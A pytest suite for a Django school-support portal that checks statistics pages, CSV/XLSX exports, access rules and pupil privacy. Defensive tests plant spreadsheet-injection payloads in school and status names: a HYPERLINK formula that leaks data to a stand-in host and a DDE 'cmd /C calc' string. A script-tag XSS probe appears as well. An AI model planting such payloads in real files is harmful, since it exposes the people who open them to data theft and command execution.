"""Kengetallen checked against hand-counted fixtures, through the loket's page and its CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from hulpvragen.models import HulpvraagType, Statuswijziging
from hulpvragen.services import hulpvraag_change_status
from loket.services import loket_instellingen_update
from tests.factories import SchoolFactory, SchoolgegevensFactory, make_hulpvraag
from tests.helpers import login
from tests.loket.conftest import status

pytestmark = pytest.mark.django_db

URL = reverse("beheer:kengetallen")


def _met_historie(world, type, stappen, *, school=None):
    """A hulpvraag whose status history is `stappen` [(status, when), …] (test set-up only: the
    dates are in the past, which the engine cannot write)."""
    sg = SchoolgegevensFactory(school=school or world.school_a, aanvrager=world.coordinator_a)
    hv = make_hulpvraag(schoolgegevens=sg, type=type, door=world.coordinator_a)
    van = hv.status
    for naam, op in stappen:
        naar = hv.proces.statussen.get(naam=naam)
        Statuswijziging.objects.create(
            organisatie=hv.organisatie, hulpvraag=hv, van=van, naar=naar, op=op
        )
        van = naar
    hv.status = van
    hv.save(update_fields=["status"])
    return hv


@pytest.fixture
def cijfers(world, ingediend):
    nu = timezone.now()
    t0 = nu - dt.timedelta(days=100)

    def dag(n):
        return t0 + dt.timedelta(days=n)

    tlv, fa = HulpvraagType.TLV_VSO, HulpvraagType.FA
    ind = "TLV aanvraag indienen"
    _met_historie(
        world, tlv, [(ind, dag(0)), ("TLV aanvraag compleet", dag(5)), ("TLV afgegeven", dag(20))]
    )
    _met_historie(world, tlv, [(ind, dag(0)), ("TLV afgegeven", dag(40))])
    _met_historie(
        world,
        tlv,
        [
            (ind, dag(0)),
            ("TLV vragen gesteld", dag(10)),
            ("TLV aanvraag aangevuld", dag(15)),
            ("TLV afwijzing toegelicht", dag(60)),
        ],
    )
    _met_historie(world, tlv, [(ind, dag(0)), ("TLV aanvraag ingetrokken", dag(3))])
    _met_historie(world, fa, [("FA aanvraag indienen", dag(0)), ("FA afgegeven", dag(30))])
    # Open, but its history was written by hand: no decision clock, so never "te laat".
    _met_historie(
        world,
        fa,
        [
            ("FA aanvraag indienen", nu - dt.timedelta(days=70)),
            ("FA vragen gesteld", nu - dt.timedelta(days=60)),
        ],
    )
    _met_historie(world, tlv, [(ind, nu - dt.timedelta(days=30))])
    # Outside the period (hulpvraagdatum last year): not counted in the period's tables.
    oud = _met_historie(world, tlv, [(ind, dag(0)), ("TLV afgegeven", dag(1))])
    oud.hulpvraagdatum = timezone.localdate() - dt.timedelta(days=400)
    oud.save(update_fields=["hulpvraagdatum"])
    # Submitted through the engine 70 days ago (outside the period): its clock ran out on day 56.
    with time_machine.travel(nu - dt.timedelta(days=70), tick=False):
        laat = ingediend("TLV_VSO")
    return laat


def _periode():
    vandaag = timezone.localdate()
    return {
        "van": (vandaag - dt.timedelta(days=30)).strftime("%d-%m-%Y"),
        "tot": vandaag.strftime("%d-%m-%Y"),
    }


def _csv(client, tabel):
    response = client.get(URL, {**_periode(), "csv": tabel})
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_figures_match_the_hand_count(client, world, cijfers, django_assert_max_num_queries):
    login(client, world.loket)
    with django_assert_max_num_queries(20):
        response = client.get(URL, _periode())
    html = response.content.decode()
    assert response.status_code == 200
    assert "9 hulpvragen" in html  # 6 TLV + 3 FA; the voorlopige and the other SWV's not

    assert _csv(client, "type") == [
        ["Type", "Aantal"],
        ["Financieel Arrangement", "3"],
        ["TLV VSO", "6"],
    ]
    status = {(r[0], r[1]): r[2] for r in _csv(client, "status")[1:]}
    assert status == {
        ("Financieel Arrangement", "FA aanvraag indienen"): "1",
        ("Financieel Arrangement", "FA vragen gesteld"): "1",
        ("Financieel Arrangement", "FA afgegeven"): "1",
        ("TLV VSO", "TLV aanvraag indienen"): "2",
        ("TLV VSO", "TLV afgegeven"): "2",
        ("TLV VSO", "TLV afwijzing toegelicht"): "1",
        ("TLV VSO", "TLV aanvraag ingetrokken"): "1",
    }
    assert _csv(client, "school")[1:] == [["School A", "8"], ["School B", "1"]]
    # TLV decisions after 20, 40 and 60 days; the withdrawal is no decision. FA afgegeven is one.
    assert _csv(client, "doorlooptijd")[1:] == [
        ["TLV VSO", "3", "40.0", "30.0", "50.0", "20", "60"],
        ["Financieel Arrangement", "1", "30.0", "30.0", "30.0", "30", "30"],
    ]
    te_laat = _csv(client, "te_laat")
    assert [r[0] for r in te_laat[1:]] == [str(cijfers.pk)]
    assert te_laat[1][5] == "70"
    uiterste = timezone.localtime(timezone.now() - dt.timedelta(days=70 - 56))
    assert te_laat[1][6] == f"{uiterste:%d-%m-%Y}"


def test_overdue_follows_the_loket_clock_and_beslistermijn(client, world, ingediend):
    """The same list as the werkvoorraad's "Termijn verstreken": the clock stands still while the
    school is to act, and the organisation's beslistermijn counts, not a fixed 8 weeks."""
    nu = timezone.now()
    with time_machine.travel(nu - dt.timedelta(days=60), tick=False):
        laat = ingediend("TLV_VSO")
        bij_school = ingediend("FA")
    with time_machine.travel(nu - dt.timedelta(days=50), tick=False):
        hulpvraag_change_status(
            hulpvraag=bij_school,
            naar=status(bij_school, "FA vragen gesteld"),
            door=world.loket,
            toelichting="Graag het OPP.",
        )
    login(client, world.loket)
    html = client.get(URL, _periode()).content.decode()
    assert "beslistermijn van 8 weken verstreken" in html
    assert [r[0] for r in _csv(client, "te_laat")[1:]] == [str(laat.pk)]
    werkvoorraad = client.get(reverse("loket:werkvoorraad"), {"weergave": "te_laat"})
    assert f'id="hv-{laat.pk}"' in werkvoorraad.content.decode()

    loket_instellingen_update(organisatie=world.org, door=world.beheerder, beslistermijn_weken=10)
    html = client.get(URL, _periode()).content.decode()
    assert "beslistermijn van 10 weken verstreken" in html
    assert _csv(client, "te_laat")[1:] == []


def test_charts_are_server_rendered_svg(client, world, cijfers):
    SchoolFactory(organisatie=world.org, naam="<script>alert(1)</script>")
    world.school_b.naam = 'School "B" & <Co>'
    world.school_b.save()
    login(client, world.loket)
    html = client.get(URL, _periode()).content.decode()
    assert html.count('<svg class="grafiek" role="img"') == 4
    assert "<title>Hulpvragen per type</title>" in html
    assert "School &quot;B&quot; &amp; &lt;Co&gt;" in html
    assert "<Co>" not in html


def test_invalid_period_shows_the_error(client, world):
    login(client, world.loket)
    html = client.get(URL, {"van": "01-02-2026", "tot": "01-01-2026"}).content.decode()
    assert "De begindatum ligt na de einddatum." in html


@pytest.mark.parametrize("persona", ["coordinator_a", "deskundige", "outsider"])
def test_only_the_loket_and_the_beheerder(client, world, persona):
    login(client, getattr(world, persona))
    assert client.get(URL).status_code == 404


def _xlsx(client, tabel):
    from openpyxl import load_workbook

    response = client.get(URL, {**_periode(), "xlsx": tabel})
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].startswith("attachment;")
    return load_workbook(io.BytesIO(response.content))


def test_xlsx_has_the_same_figures_as_numbers(client, world, cijfers):
    login(client, world.loket)
    boek = _xlsx(client, "alle")
    assert boek.sheetnames == [
        "Per type",
        "Per type en status",
        "Per school",
        "Doorlooptijd",
        "Besluit te laat",
        "TLV per bekostiging",
    ]
    rijen = {
        naam: [list(r) for r in boek[naam].iter_rows(values_only=True)] for naam in boek.sheetnames
    }
    assert rijen["Per type"] == [["Type", "Aantal"], ["Financieel Arrangement", 3], ["TLV VSO", 6]]
    assert rijen["Per school"][1:] == [["School A", 8], ["School B", 1]]
    assert rijen["Doorlooptijd"][1] == ["TLV VSO", 3, 40.0, 30.0, 50.0, 20, 60]
    assert [r[0] for r in rijen["Besluit te laat"][1:]] == [cijfers.pk]
    # Every count table equals its CSV, cell for cell (the doorlooptijd is compared above: Excel
    # stores 40.0 as the number 40).
    for tabel, naam in (
        ("type", "Per type"),
        ("status", "Per type en status"),
        ("school", "Per school"),
    ):
        als_tekst = [["" if c is None else str(c) for c in r] for r in rijen[naam]]
        assert als_tekst == _csv(client, tabel), tabel
    one = _xlsx(client, "school")
    assert one.sheetnames == ["Per school"]


def test_xlsx_text_never_becomes_a_formula(client, world, cijfers):
    world.school_b.naam = '=HYPERLINK("http://x.invalid","klik")'
    world.school_b.save()
    login(client, world.loket)
    blad = _xlsx(client, "school")["Per school"]
    cellen = [r[0] for r in blad.iter_rows(min_row=2)]
    naam = next(c for c in cellen if str(c.value).startswith("="))
    assert naam.data_type == "s"


def test_csv_cells_never_become_formulas(client, world, cijfers):
    """OWASP: a text cell starting with = + - @ tab or CR gets a leading quote in every CSV."""
    from hulpvragen.models import Status

    world.school_b.naam = '=HYPERLINK("http://x.invalid/?"&A1,"klik")'
    world.school_b.save()
    Status.objects.filter(proces=cijfers.proces, naam="TLV aanvraag indienen").update(
        naam="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    login(client, world.loket)
    scholen = _csv(client, "school")[1:]
    assert ['\'=HYPERLINK("http://x.invalid/?"&A1,"klik")', "1"] in scholen
    statussen = {(r[0], r[1]): r[2] for r in _csv(client, "status")[1:]}
    assert statussen[("TLV VSO", "'@SUM(1+1)*cmd|' /C calc'!A0")] == "2"
    te_laat = _csv(client, "te_laat")[1]
    assert te_laat[3] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    # Every cell of every table: none starts with a character a spreadsheet reads as a formula.
    for tabel in ("type", "status", "school", "doorlooptijd", "te_laat", "tlv"):
        for rij in _csv(client, tabel):
            for cel in rij:
                assert not cel.startswith(("=", "+", "@", "\t", "\r")), (tabel, cel)


@pytest.mark.parametrize(
    ("waarde", "cel"),
    [
        ("=1+1", "'=1+1"),
        ("+31 55 123", "'+31 55 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("School A", "School A"),
        ("-", "-"),
        ("-3", "-3"),
        ("2,5", "2,5"),
        (-3, -3),
        (None, None),
    ],
)
def test_veilige_cel(waarde, cel):
    from kindkans.spreadsheet import veilige_cel

    assert veilige_cel(waarde) == cel


def test_xlsx_status_and_school_stay_text(client, world, cijfers):
    """The workbook types text cells as text: no formula element anywhere in the sheet XML."""
    import zipfile

    from hulpvragen.models import Status

    world.school_b.naam = '=HYPERLINK("http://x.invalid/?"&A1,"klik")'
    world.school_b.save()
    Status.objects.filter(proces=cijfers.proces, naam="TLV aanvraag indienen").update(
        naam="@SUM(1+1)"
    )
    login(client, world.loket)
    response = client.get(URL, {**_periode(), "xlsx": "alle"})
    with zipfile.ZipFile(io.BytesIO(response.content)) as z:
        bladen = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(z.read(n).decode() for n in bladen)
    assert "<f>" not in xml and "<f " not in xml
    assert "HYPERLINK" in xml and "@SUM(1+1)" in xml


@pytest.mark.parametrize("persona", ["coordinator_a", "deskundige", "outsider"])
def test_xlsx_export_is_not_for_other_roles(client, world, persona):
    login(client, getattr(world, persona))
    assert client.get(URL, {**_periode(), "xlsx": "alle"}).status_code == 404


def test_tlvs_per_bekostigingscategorie_hand_counted(client, world):
    from besluiten.models import Toelaatbaarheidsverklaring

    vandaag = timezone.localdate()
    nu = timezone.now()

    def tlv(soort, categorie, besluitdatum, hv=None):
        hv = hv or _met_historie(
            world,
            HulpvraagType.PRO if soort == "PRO" else HulpvraagType.TLV_VSO,
            [
                (
                    "PrO aanvraag indienen" if soort == "PRO" else "TLV aanvraag indienen",
                    nu - dt.timedelta(days=20),
                )
            ],
        )
        return Toelaatbaarheidsverklaring.objects.create(
            organisatie=hv.organisatie,
            besluitdatum=besluitdatum,
            vastgelegd_door=world.loket,
            hulpvraag=hv,
            leerling=hv.leerling,
            soort=soort,
            bekostigingscategorie=categorie,
            ingangsdatum=besluitdatum,
            einddatum=besluitdatum + dt.timedelta(days=365),
        )

    gisteren = vandaag - dt.timedelta(days=1)
    tlv("VSO", "hoog", gisteren)
    tlv("VSO", "laag", gisteren)
    tlv("VSO", "laag", vandaag)
    tlv("PRO", "", gisteren)
    tlv("VSO", "midden", vandaag - dt.timedelta(days=400))  # outside the period
    tlv("VSO", "midden", gisteren, hv=world.hv_other_org)  # another SWV

    login(client, world.loket)
    assert _csv(client, "tlv") == [
        ["Soort TLV", "Bekostigingscategorie", "Aantal"],
        ["VSO", "laag (L)", "2"],
        ["VSO", "hoog (H)", "1"],
        ["PrO", "-", "1"],
    ]
    html = client.get(URL, _periode()).content.decode()
    assert "<title>TLV&#x27;s per bekostigingscategorie</title>" in html or (
        "TLV's per bekostigingscategorie</title>" in html
    )
    blad = _xlsx(client, "tlv")["TLV per bekostiging"]
    assert [list(r) for r in blad.iter_rows(values_only=True)][1] == ["VSO", "laag (L)", 2]


# --- The beheerder: the same figures, no pupil ----------------------------------------------------


def test_the_beheerder_sees_the_same_figures_without_any_pupil(
    client, world, cijfers, django_assert_max_num_queries
):
    from dossiers.models import Leerling

    login(client, world.loket)
    van_loket = {t: _csv(client, t) for t in ("type", "status", "school", "doorlooptijd", "tlv")}
    login(client, world.beheerder)
    start = client.get(reverse("beheer:index")).content.decode()
    assert f'href="{URL}"' in start  # the start of Beheer links them
    with django_assert_max_num_queries(20):
        response = client.get(URL, _periode())
    html = response.content.decode()
    assert response.status_code == 200
    assert "9 hulpvragen" in html
    for tabel, rijen in van_loket.items():
        assert _csv(client, tabel) == rijen
    # No pupil: no name, no link to a hulpvraag, no overdue list (it names hulpvragen).
    for leerling in Leerling.objects.filter(organisatie=world.org):
        assert leerling.achternaam not in html and leerling.naam not in html
    assert "/hulpvragen/" not in html
    assert "Besluit te laat" not in html
    assert client.get(URL, {**_periode(), "csv": "te_laat"}).status_code == 404
    assert client.get(URL, {**_periode(), "xlsx": "te_laat"}).status_code == 404
    werkmap = _xlsx(client, "alle")
    assert "Besluit te laat" not in werkmap.sheetnames and "Per type" in werkmap.sheetnames


@pytest.mark.parametrize(
    "url",
    [
        reverse("loket:werkvoorraad"),
        reverse("hulpvragen:lijst"),
        reverse("loket:vergaderingen"),
    ],
)
def test_the_lists_that_name_pupils_stay_closed_to_the_beheerder(client, world, cijfers, url):
    login(client, world.beheerder)
    assert client.get(url).status_code in (403, 404)
    assert client.get(reverse("hulpvragen:detail", args=[cijfers.pk])).status_code == 404
